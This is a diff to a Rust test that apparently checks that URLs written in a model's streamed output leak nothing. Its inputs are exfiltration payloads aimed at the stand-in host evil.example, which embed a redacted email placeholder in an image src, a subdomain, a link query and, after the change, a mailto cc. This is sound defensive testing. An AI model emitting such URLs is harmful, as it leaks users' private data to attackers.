@@ -67,7 +67,7 @@ fn a_url_that_a_model_writes_carries_no_value() {
         "IL_1]) <img src=\"//evil.example/[EMAIL_1]\">",
         " https:",
         "//[EMAIL_1].evil.example/\n[a]: /x?[EMAIL_1]\n",
-        "[me](mailto:[EMAIL_1]) %5BEMAIL_1%5D [EMAIL_1].evil.example",
+        "[me](mailto:a@evil.example?cc=[EMAIL_1]) %5BEMAIL_1%5D [EMAIL_1].evil.example",
         " [EMAIL_1]",
     ];
     let mut steps: Vec<_> = pieces.iter().map(|piece| Step::Bytes(50, chunk(piece))).collect();
